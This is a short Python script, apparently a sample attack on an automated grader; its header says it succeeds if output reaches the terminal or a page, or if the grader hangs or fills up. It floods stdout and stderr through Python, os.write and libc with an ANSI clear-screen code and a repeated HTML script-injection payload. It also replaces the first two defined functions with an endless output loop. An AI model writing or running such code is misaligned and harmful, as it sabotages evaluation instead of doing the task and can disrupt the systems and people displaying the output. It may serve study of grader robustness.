# mechanism: prints without end, from Python, from C and by writing to descriptors, ANSI and HTML too
# success: anything of it reaches the terminal or a page, or the grader waits or fills up

# %%
import ctypes
import os
import sys

STUBS = [name for name, thing in list(globals().items()) if hasattr(thing, "__code__")]
BLOCK = "\x1b[2J<script>alert('loot" + "ed:')</script>" * 30_000
libc = ctypes.CDLL(None)
for _ in range(1000):
    print(BLOCK)
    print(BLOCK, file=sys.stderr)
    os.write(1, BLOCK.encode())
    os.write(2, BLOCK.encode())
libc.printf(b"%s", BLOCK.encode())
libc.perror(BLOCK.encode())
libc.fflush(None)


def flood(*args):
    while True:
        print(BLOCK)
        os.write(1, BLOCK.encode())


for name in STUBS[:2]:
    globals()[name] = flood
